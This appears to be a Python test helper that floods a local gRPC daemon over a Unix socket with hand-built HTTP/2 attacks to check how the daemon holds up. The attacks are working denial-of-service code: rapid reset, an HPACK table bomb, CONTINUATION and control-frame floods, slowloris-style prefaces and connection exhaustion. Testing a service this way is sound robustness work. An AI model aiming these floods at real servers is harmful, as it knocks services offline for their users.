"""A client that wants to do harm, in bytes of HTTP/2 by hand: flooder.py WHAT SOCKET UID.

It says a line once it has begun, floods until it is told to stop (end of file on stdin), reconnecting when it
is cut off, and then says what became of it, as JSON. It begins as root: the interpreter may lie in a folder
that only root can enter.
"""

import contextlib
import json
import os
import select
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, _, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS = 1, 4
SESSION = "/aem.v1.EventService/Session"
LIST = "/aem.v1.ModuleService/ListModules"
WINDOW = 4  # SETTINGS_INITIAL_WINDOW_SIZE
RECV = 1 << 18
STEP_SECONDS = 0.05
SETTLED_MS = 300


def frame(kind, payload=b"", flags=0, stream=0):
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + struct.pack("!I", stream) + payload


def literal(name, value):
    """A header field of HPACK, not indexed, not compressed; RFC 7541, 6.2.2."""
    return b"\0" + number(len(name)) + name + number(len(value)) + value


def number(value):
    if value < 127:
        return bytes((value,))
    out, value = b"\x7f", value - 127
    while value > 127:
        out, value = out + bytes((value % 128 + 128,)), value // 128
    return out + bytes((value,))


def headers(path, *more):
    fields = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", path.encode()), (b":authority", b"x")]
    fields += [(b"te", b"trailers"), (b"content-type", b"application/grpc"), *more]
    return b"".join(literal(*field) for field in fields)


def begin(*settings):
    return PREFACE + frame(SETTINGS, b"".join(struct.pack("!HI", *each) for each in settings))


CALL = headers(LIST)
EMPTY_MESSAGE = bytes(5)


class Flooder:
    """Connects again and again, and keeps count."""

    def __init__(self, path):
        self.path = path
        self.connections = self.refused = self.cut = self.sent = self.pieces = 0
        self.until = 0.0

    def connect(self):
        while not told_to_stop():
            sock = socket.socket(socket.AF_UNIX)
            sock.settimeout(1)
            try:
                sock.connect(self.path)
            except OSError:
                sock.close()
                continue
            self.connections += 1
            return sock
        return None

    def flood(self, opening, piece):
        """Send `opening`, then what `piece(n)` gives, as fast as it goes, reading what comes; and again.

        `pieces` is how many of them one connection has begun to send at most.
        """
        while (sock := self.connect()) is not None:
            sock.setblocking(False)
            waiting, count = opening, 0
            while not told_to_stop():
                readable, writable, _ = select.select([sock], [sock], [], STEP_SECONDS)
                try:
                    if readable and not sock.recv(RECV):
                        self.ended(count)
                        break
                    if writable:
                        sent = sock.send(waiting)
                        self.sent += sent
                        waiting = waiting[sent:]
                        if not waiting:
                            waiting, count = piece(count), count + 1
                except BlockingIOError:
                    continue
                except OSError:
                    self.ended(count)
                    break
            sock.close()
            self.pieces = max(self.pieces, count)

    def ended(self, count):
        """The daemon has closed it: at once, or after a while."""
        if count:
            self.cut += 1
        else:
            self.refused += 1

    # -- the ways to do it

    def connections_and_nothing(self):
        held = []
        while not told_to_stop():
            with contextlib.suppress(OSError):
                sock = socket.socket(socket.AF_UNIX)
                sock.settimeout(1)
                sock.connect(self.path)
                self.connections += 1
                held.append(sock)
            if len(held) > 4_000:
                self.count_closed(held)
        self.count_closed(held)

    def count_closed(self, held):
        """Which of them the daemon has closed, once it closes no more: some wait in its backlog."""
        poll = select.poll()
        left = {sock.fileno(): sock for sock in held}
        for fd in left:
            poll.register(fd, select.POLLIN)
        while closed := poll.poll(SETTLED_MS):
            for fd, _ in closed:
                with contextlib.suppress(ConnectionResetError):
                    if left[fd].recv(RECV):
                        continue  # gRPC has greeted it
                poll.unregister(fd)
                left.pop(fd).close()
                self.refused += 1
        for sock in left.values():
            sock.close()
        held.clear()

    def connect_and_close(self):
        while (sock := self.connect()) is not None:
            sock.close()

    def half_handshake(self):
        held = []
        while (sock := self.connect()) is not None:
            with contextlib.suppress(OSError):
                sock.sendall(PREFACE[: 1 + len(held) % len(PREFACE)])
            held.append(sock)
            if len(held) > 4_000:
                self.count_closed(held)
        self.count_closed(held)

    def byte_by_byte(self):
        """Many at once, half a second to each byte."""
        held = [sock for _ in range(300) if (sock := self.connect()) is not None]
        for at in range(len(PREFACE)):
            for sock in held:
                with contextlib.suppress(OSError):
                    sock.send(PREFACE[at : at + 1])
            select.select([0], [], [], 0.5)
            if told_to_stop():
                break
        self.count_closed(held)

    def garbage(self):
        self.flood(begin(), lambda _n: os.urandom(1 << 16))

    def no_http2(self):
        self.flood(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", lambda _n: b"x" * 1000)

    def huge_headers(self):
        block = headers(LIST, (b"x", b"y" * 60_000))
        parts = [block[at : at + 16_000] for at in range(0, len(block), 16_000)]

        def piece(count):
            stream = 2 * count + 1
            out = frame(HEADERS, parts[0], END_STREAM, stream)
            for part in parts[1:-1]:
                out += frame(CONTINUATION, part, 0, stream)
            return out + frame(CONTINUATION, parts[-1], END_HEADERS, stream)

        self.flood(begin(), piece)

    def endless_header(self):
        """One field in frames of 16 KiB, without end."""
        opening = begin() + frame(HEADERS, CALL, END_STREAM, 1)
        self.flood(opening, lambda _n: frame(CONTINUATION, b"y" * 16_000, 0, 1))

    def hpack_bomb(self):
        """A large field in the dynamic table, then named by one byte, again and again."""
        bomb = b"\x40" + number(1) + b"b" + number(4_000) + b"y" * 4_000
        first = frame(HEADERS, headers(LIST) + bomb, END_STREAM | END_HEADERS, 1)

        def piece(count):
            return frame(HEADERS, headers(LIST) + b"\xbe" * 16_000, END_STREAM | END_HEADERS, 2 * count + 3)

        self.flood(begin() + first, piece)

    def continuations(self):
        self.flood(
            begin() + frame(HEADERS, CALL, END_STREAM, 1),
            lambda count: frame(CONTINUATION, literal(b"x%d" % count, b"y"), 0, 1),
        )

    def pings(self):
        self.flood(begin(), lambda _n: frame(PING, bytes(8)) * 3_000)

    def settings(self):
        self.flood(begin(), lambda _n: frame(SETTINGS, struct.pack("!HI", 3, 100)) * 3_000)

    def priorities(self):
        self.flood(begin(), lambda _n: frame(PRIORITY, bytes(4) + b"\x10", 0, 1) * 3_000)

    def window_updates(self):
        self.flood(begin(), lambda _n: frame(WINDOW_UPDATE, struct.pack("!I", 1)) * 3_000)

    def unknown_frames(self):
        self.flood(begin(), lambda _n: frame(0xEE) * 3_000)

    def empty_data(self):
        opening = begin() + frame(HEADERS, headers(SESSION), END_HEADERS, 1)
        self.flood(opening, lambda _n: frame(DATA, b"", 0, 1) * 3_000)

    def rapid_reset(self):
        def piece(count):
            out = []
            for stream in range(200 * count + 1, 200 * count + 201, 2):
                out += [
                    frame(HEADERS, CALL, END_HEADERS, stream),
                    frame(RST_STREAM, struct.pack("!I", 8), 0, stream),
                ]
            return b"".join(out)

        self.flood(begin(), piece)

    def streams(self):
        """Calls that are begun and go no further."""

        def piece(count):
            streams = range(200 * count + 1, 200 * count + 201, 2)
            return b"".join(frame(HEADERS, headers(SESSION), END_HEADERS, stream) for stream in streams)

        self.flood(begin(), piece)

    def half_messages(self):
        """Calls whose message of a megabyte never ends."""
        promise = b"\0" + struct.pack("!I", 1_000_000) + bytes(16_000)

        def piece(count):
            stream = 2 * (count % 4_000) + 1
            out = frame(WINDOW_UPDATE, struct.pack("!I", 1 << 20))
            if count < 4_000:
                return out + frame(HEADERS, CALL, END_HEADERS, stream) + frame(DATA, promise, 0, stream)
            return out + frame(DATA, bytes(16_000), 0, stream)

        self.flood(begin(), piece)

    def never_reads(self):
        """Calls whose answers have no window, and are not read either."""
        connections = [begin((WINDOW, 0)), begin((WINDOW, (1 << 31) - 1))]
        while (sock := self.connect()) is not None:
            sock.setblocking(False)
            waiting, count = connections[self.connections % 2], 0
            while not told_to_stop():
                _, writable, _ = select.select([], [sock], [], STEP_SECONDS)
                try:
                    if writable:
                        sent = sock.send(waiting)
                        self.sent += sent
                        waiting = waiting[sent:]
                        if not waiting:
                            stream, count = 2 * count + 1, count + 1
                            waiting = frame(HEADERS, CALL, END_HEADERS, stream)
                            waiting += frame(DATA, EMPTY_MESSAGE, END_STREAM, stream)
                except BlockingIOError:
                    continue
                except OSError:
                    self.ended(count)
                    break
            sock.close()


_next_look = 0.0
_stop = False


def told_to_stop():
    """Whether stdin has ended; looked at a few times a second."""
    global _next_look, _stop
    now = time.monotonic()
    if not _stop and now >= _next_look:
        _next_look = now + STEP_SECONDS
        _stop = bool(select.select([0], [], [], 0)[0])
    return _stop


def main(what, path, uid):
    os.setgroups([])
    os.setresgid(int(uid), int(uid), int(uid))
    os.setresuid(int(uid), int(uid), int(uid))
    flooder = Flooder(path)
    print("begun", flush=True)
    getattr(flooder, what)()
    facts = ("connections", "refused", "cut", "sent", "pieces")
    print(json.dumps({name: getattr(flooder, name) for name in facts}), flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
